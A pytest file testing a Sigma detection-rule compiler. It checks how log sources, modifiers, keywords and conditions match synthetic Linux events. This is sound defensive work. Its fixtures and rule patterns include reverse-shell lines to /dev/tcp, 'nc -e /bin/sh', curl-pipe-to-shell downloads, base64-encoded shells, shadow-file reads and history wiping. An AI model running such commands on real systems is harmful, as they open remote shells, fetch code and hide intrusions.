"""Sigma compatibility: every log source mapping, modifier and condition form on real events.

The rules here are our own, written for these tests. The public SigmaHQ rules are never
committed; the last tests read them from /tmp/sigma-rules when a checkout is there.
"""

from __future__ import annotations

import base64
import importlib.util
import sys
from collections.abc import Mapping
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml
from sigma.collection import SigmaCollection
from sigma.exceptions import SigmaTransformationError
from sigma.rule import SigmaRule

from canhgac.errors import RuleError
from canhgac.fields import event_fields
from canhgac.v1 import events_pb2 as pb
from collector.detection.compiler import compile_rule
from collector.detection.pipeline import canhgac_pipeline

PUBLIC_RULES = Path("/tmp/sigma-rules")  # read only
SCRIPT = Path(__file__).resolve().parents[3] / "scripts" / "sigma_compat.py"
LINUX = {"product": "linux"}
PROCESS = {"product": "linux", "category": "process_creation"}


def rule(logsource: Mapping[str, str], detection: Mapping[str, Any]) -> Any:
    doc = {"title": "ours", "logsource": dict(logsource), "detection": dict(detection)}
    parsed = SigmaCollection.from_yaml(yaml.safe_dump(doc)).rules[0]
    assert isinstance(parsed, SigmaRule)
    canhgac_pipeline().apply(parsed)
    return compile_rule(parsed).predicate


def process(*args: str, exe: str = "", cwd: str = "/", parent: str = "/bin/bash") -> pb.Event:
    return pb.Event(
        id="e1",
        category="process",
        type="start",
        process=pb.ProcessEvent(
            pid=10,
            executable=exe or "/usr/bin/" + args[0],
            command_line=" ".join(args),
            args=list(args),
            user="www-data",
            cwd=cwd,
            parent_executable=parent,
            name=args[0],
        ),
    )


def socket(remote_ip: str, remote_port: int, direction: str = "outbound") -> pb.Event:
    return pb.Event(
        category="network",
        type="connection",
        socket=pb.SocketEvent(
            transport="tcp",
            local_ip="10.0.0.5",
            local_port=40000,
            remote_ip=remote_ip,
            remote_port=remote_port,
            direction=direction,
            process_executable="/bin/bash",
        ),
    )


def file_change(path: str, action: str, kind: str) -> pb.Event:
    return pb.Event(
        category="file",
        type=kind,
        action=action,
        file=pb.FileEvent(path=path, process_executable="/usr/bin/wget", size=10),
    )


def dns(name: str, qtype: str = "A", answers: tuple[str, ...] = ()) -> pb.Event:
    return pb.Event(
        category="network",
        type="protocol",
        dns=pb.DnsEvent(
            query_name=name,
            query_type=qtype,
            is_response=bool(answers),
            answers=[pb.DnsAnswer(name=name, type=qtype, data=a) for a in answers],
            server_port=53,
        ),
    )


def auth(action: str, process_name: str, category: str = "authentication") -> pb.Event:
    return pb.Event(
        category=category,
        type="start",
        action=action,
        original=f"{process_name}[1]: some line",
        auth=pb.AuthEvent(user="alice", process_name=process_name, source_ip="203.0.113.9"),
    )


def check(predicate: Any, hit: pb.Event, miss: pb.Event) -> None:
    assert predicate(event_fields(hit))
    assert not predicate(event_fields(miss))


# --- log sources ------------------------------------------------------------------------------


@pytest.mark.parametrize("service", ["sshd", "auth"])
def test_ssh_and_auth_services_are_authentication_events(service: str) -> None:
    p = rule({"product": "linux", "service": service}, {"s": {"User": "alice"}, "condition": "s"})
    check(p, auth("ssh_login", "sshd"), auth("user_created", "useradd", category="iam"))


def test_sudo_service_is_sudo_authentication() -> None:
    p = rule({"product": "linux", "service": "sudo"}, {"s": {"User": "alice"}, "condition": "s"})
    check(p, auth("sudo_command", "sudo"), auth("ssh_login", "sshd"))


def test_process_creation() -> None:
    p = rule(
        PROCESS, {"s": {"Image|endswith": "/nc", "ParentImage": "/bin/bash"}, "condition": "s"}
    )
    end = process("nc", "-l")
    end.type = "end"
    check(p, process("nc", "-l"), end)


def test_network_connection_with_initiated() -> None:
    p = rule(
        {"product": "linux", "category": "network_connection"},
        {
            "s": {"DestinationPort": 4444, "Initiated": "true", "Image": "/bin/bash"},
            "condition": "s",
        },
    )
    check(p, socket("198.51.100.1", 4444), socket("198.51.100.1", 4444, direction="inbound"))


@pytest.mark.parametrize(("value", "direction"), [(True, "outbound"), (False, "inbound")])
def test_initiated_as_a_yaml_boolean(value: bool, direction: str) -> None:
    p = rule(
        {"product": "linux", "category": "network_connection"},
        {"s": {"Initiated": value}, "condition": "s"},
    )
    other = "inbound" if direction == "outbound" else "outbound"
    check(p, socket("198.51.100.1", 80, direction), socket("198.51.100.1", 80, other))


def test_file_event_is_a_file_written_not_deleted() -> None:
    p = rule(
        {"product": "linux", "category": "file_event"},
        {"s": {"TargetFilename|startswith": "/etc/cron.d/"}, "condition": "s"},
    )
    check(
        p,
        file_change("/etc/cron.d/job", "created", "creation"),
        file_change("/etc/cron.d/job", "deleted", "deletion"),
    )


def test_file_delete() -> None:
    p = rule(
        {"product": "linux", "category": "file_delete"},
        {"s": {"TargetFilename": "/var/log/wtmp"}, "condition": "s"},
    )
    check(
        p,
        file_change("/var/log/wtmp", "deleted", "deletion"),
        file_change("/var/log/wtmp", "modified", "change"),
    )


@pytest.mark.parametrize(
    "logsource", [{"category": "dns"}, {"product": "zeek", "service": "dns"}], ids=["dns", "zeek"]
)
def test_dns_queries(logsource: dict[str, str]) -> None:
    p = rule(logsource, {"s": {"query|endswith": ".example-tunnel.test"}, "condition": "s"})
    check(p, dns("a.b.example-tunnel.test"), dns("example.org"))


def test_dns_answer_and_record_type() -> None:
    p = rule(
        {"category": "dns"},
        {"s": {"answer|contains": "payload", "record_type": "TXT"}, "condition": "s"},
    )
    check(p, dns("t.test", "TXT", ("run payload now",)), dns("t.test", "A", ("run payload now",)))


def test_firewall_is_a_connection() -> None:
    p = rule(
        {"category": "firewall"},
        {"s": {"dst_port": 23, "dst_ip|cidr": "198.51.100.0/24"}, "condition": "s"},
    )
    check(p, socket("198.51.100.7", 23), socket("192.0.2.7", 23))


def test_auditd_execve_arguments_by_position() -> None:
    p = rule(
        {"product": "linux", "service": "auditd"},
        {"s": {"type": "EXECVE", "a0": "getent", "a1": "shadow"}, "condition": "s"},
    )
    check(p, process("getent", "shadow"), process("getent", "passwd"))


def test_auditd_syscall_is_the_programs_start() -> None:
    p = rule(
        {"product": "linux", "service": "auditd"},
        {"s": {"type": "SYSCALL", "exe|startswith": "/tmp/", "comm": "x"}, "condition": "s"},
    )
    check(p, process("x", exe="/tmp/x"), process("x", exe="/usr/bin/x"))


def test_auditd_add_user_is_an_account_creation() -> None:
    p = rule(
        {"product": "linux", "service": "auditd"},
        {"s": {"type": ["ADD_USER", "ADD_GROUP"]}, "condition": "s"},
    )
    check(p, auth("user_created", "useradd", category="iam"), auth("ssh_login", "sshd"))


@pytest.mark.parametrize(
    ("logsource", "detection", "message"),
    [
        (
            {"product": "windows", "service": "security"},
            {"k": ["x"]},
            "product is not supported: windows",
        ),
        ({"product": "zeek", "service": "ntlm"}, {"s": {"domainname": "x"}}, "service=ntlm"),
        ({"product": "linux", "service": "postfix"}, {"k": ["x"]}, "service=postfix"),
        (
            {"product": "linux", "category": "process_access"},
            {"s": {"Image": "x"}},
            "category=process_access",
        ),
    ],
)
def test_unanswerable_log_sources_are_refused(
    logsource: dict[str, str], detection: dict[str, Any], message: str
) -> None:
    with pytest.raises(SigmaTransformationError, match=message):
        rule(logsource, {**detection, "condition": next(iter(detection))})


@pytest.mark.parametrize(
    ("logsource", "name"),
    [
        ({"product": "linux", "service": "auditd"}, "LogonId"),
        (PROCESS, "LogonId"),
        (PROCESS, "IntegrityLevel"),
    ],
)
def test_fields_we_do_not_observe_are_refused(logsource: dict[str, str], name: str) -> None:
    with pytest.raises(RuleError, match=f"unknown field '{name}'"):
        rule(logsource, {"s": {name: "x"}, "condition": "s"})


# --- modifiers --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("selection", "hit", "miss"),
    [
        (
            {"CommandLine|contains": "/dev/tcp/"},
            ("bash", "-c", "exec 3<>/dev/tcp/h/1"),
            ("bash", "-i"),
        ),
        ({"Image|startswith": "/tmp/"}, ("/tmp/x",), ("/usr/bin/x",)),
        ({"Image|endswith": "/socat"}, ("socat",), ("cat",)),
        (
            {"CommandLine|contains|all": ["-e", "/bin/sh"]},
            ("nc", "-e", "/bin/sh"),
            ("nc", "-e", "/bin/zsh"),
        ),
        ({"CommandLine|re": r"-p\s?\d{4,5}$"}, ("ssh", "-p 2222"), ("ssh", "-p 22")),
        ({"CurrentDirectory|exists": True}, ("ls",), ()),
        ({"CommandLine|windash|contains": " -force "}, ("rm", "/force", "x"), ("rm", "x")),
    ],
)
def test_string_modifiers(
    selection: dict[str, Any], hit: tuple[str, ...], miss: tuple[str, ...]
) -> None:
    p = rule(PROCESS, {"s": selection, "condition": "s"})
    hit_event = process(*hit, exe=hit[0] if hit[0].startswith("/") else "")
    if miss:
        check(p, hit_event, process(*miss, exe=miss[0] if miss[0].startswith("/") else ""))
    else:  # exists: an event without a working directory
        no_cwd = process(*hit)
        no_cwd.process.cwd = ""
        check(p, hit_event, no_cwd)


def test_cidr() -> None:
    p = rule(
        {"product": "linux", "category": "network_connection"},
        {"s": {"DestinationIp|cidr": ["10.0.0.0/8", "fd00::/8"]}, "condition": "not s"},
    )
    check(p, socket("198.51.100.1", 443), socket("10.1.2.3", 443))
    assert not p(event_fields(socket("fd00::1", 443)))


@pytest.mark.parametrize(
    ("modifier", "bound", "hit", "miss"),
    [
        ("gt", 1024, 4444, 1024),
        ("gte", 1024, 1024, 1023),
        ("lt", 1024, 22, 1024),
        ("lte", 1024, 1024, 1025),
    ],
)
def test_numeric_comparisons(modifier: str, bound: int, hit: int, miss: int) -> None:
    p = rule(
        {"product": "linux", "category": "network_connection"},
        {"s": {f"DestinationPort|{modifier}": bound}, "condition": "s"},
    )
    check(p, socket("198.51.100.1", hit), socket("198.51.100.1", miss))


def test_base64() -> None:
    p = rule(PROCESS, {"s": {"CommandLine|base64|contains": "curl "}, "condition": "s"})
    encoded = base64.b64encode(b"curl ").decode()
    check(p, process("sh", "-c", f"echo {encoded} | base64 -d"), process("sh", "-c", "curl x"))


@pytest.mark.parametrize("prefix", [b"", b"x", b"xy"])
def test_base64offset_matches_every_alignment(prefix: bytes) -> None:
    p = rule(PROCESS, {"s": {"CommandLine|base64offset|contains": "/bin/sh -i"}, "condition": "s"})
    encoded = base64.b64encode(prefix + b"/bin/sh -i >& /dev/tcp/h/1").decode()
    check(
        p, process("sh", "-c", f"echo {encoded}|base64 -d|sh"), process("sh", "-c", "echo aGVsbG8=")
    )


# --- keywords and conditions ------------------------------------------------------------------


def test_keywords_search_the_raw_record_and_the_command_line() -> None:
    p = rule(LINUX, {"kw": ["history -c", "some line"], "condition": "kw"})
    assert p(event_fields(process("bash", "-c", "history -c")))
    assert p(event_fields(auth("ssh_login", "sshd")))  # event.original "sshd[1]: some line"
    assert not p(event_fields(process("bash", "-c", "history")))


def test_keywords_all() -> None:
    p = rule(LINUX, {"kw": {"|all": ["grep", "password"]}, "condition": "kw"})
    check(p, process("grep", "-r", "password", "/etc"), process("grep", "-r", "user", "/etc"))


def test_one_of_and_all_of_with_wildcards_not_and_parentheses() -> None:
    detection = {
        "sel_tool": {"Image|endswith": ["/curl", "/wget"]},
        "sel_target": {"CommandLine|contains": "http"},
        "opt_pipe": {"CommandLine|contains": "|sh"},
        "opt_out": {"CommandLine|contains": "-O /tmp/"},
        "filter_local": {"CommandLine|contains": "127.0.0.1"},
        "condition": "all of sel_* and (1 of opt_* and not filter_local)",
    }
    p = rule(PROCESS, detection)
    assert p(event_fields(process("curl", "http://h/x|sh")))
    assert p(event_fields(process("wget", "http://h/x", "-O /tmp/x")))
    assert not p(event_fields(process("wget", "http://127.0.0.1/x", "-O /tmp/x")))  # filtered
    assert not p(event_fields(process("wget", "http://h/x")))  # no opt_*
    assert not p(event_fields(process("ftp", "http://h/x|sh")))  # not all of sel_*


# --- the public rules -------------------------------------------------------------------------


def load_script() -> ModuleType:
    spec = importlib.util.spec_from_file_location("sigma_compat", SCRIPT)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules["sigma_compat"] = module
    spec.loader.exec_module(module)
    return module


def test_script_counts_and_groups_our_own_rules(tmp_path: Path) -> None:
    (tmp_path / "good.yml").write_text(
        yaml.safe_dump(
            {
                "title": "g",
                "id": "7a0e7e0c-95c3-4c52-9a3e-6f4b3a3f2a01",
                "logsource": PROCESS,
                "detection": {"s": {"Image": "/x"}, "condition": "s"},
            }
        )
    )
    (tmp_path / "bad.yml").write_text(
        yaml.safe_dump(
            {
                "title": "b",
                "id": "7a0e7e0c-95c3-4c52-9a3e-6f4b3a3f2a02",
                "logsource": {"product": "linux", "service": "auditd"},
                "detection": {"s": {"LogonId": "k"}, "condition": "s"},
            }
        )
    )
    compat = load_script()
    report = compat.check_rules([tmp_path])
    assert (report.total, report.loaded, report.unsupported_pct) == (2, 1, 50.0)
    assert dict(report.reasons) == {"unknown field 'LogonId'": 1}
    assert compat.main([str(tmp_path)]) == 0
    assert compat.main([str(tmp_path), "--max-unsupported-pct", "40"]) == 1


# Why the rest of the public rules cannot load: logs of devices and services we do not observe,
# fields our events do not carry. A new reason is a regression.
HONEST_REFUSALS = (
    "log source product is not supported: ",
    "logsource not mapped: ",
    "unknown field 'LogonId'",
    "unknown field 'Z'",
    "unknown field 'rejected'",
    "unknown field 'action'",
)


# The public Sigma rules are never committed (their licence, and the project rule that nothing
# fetched is committed) and cannot be installed from a package registry: these two tests run
# where a developer has fetched them to /tmp/sigma-rules, and skip elsewhere, CI included.
@pytest.mark.skipif(not PUBLIC_RULES.is_dir(), reason="no public Sigma rules at /tmp/sigma-rules")
def test_public_rules_refused_only_for_known_reasons() -> None:
    report = load_script().check_rules([PUBLIC_RULES])
    assert report.total > 0
    unexpected = {r: n for r, n in report.reasons.items() if not r.startswith(HONEST_REFUSALS)}
    assert unexpected == {}


@pytest.mark.skipif(not PUBLIC_RULES.is_dir(), reason="no public Sigma rules at /tmp/sigma-rules")
def test_public_rules_at_most_five_percent_unsupported() -> None:
    assert load_script().check_rules([PUBLIC_RULES]).unsupported_pct <= 5.0
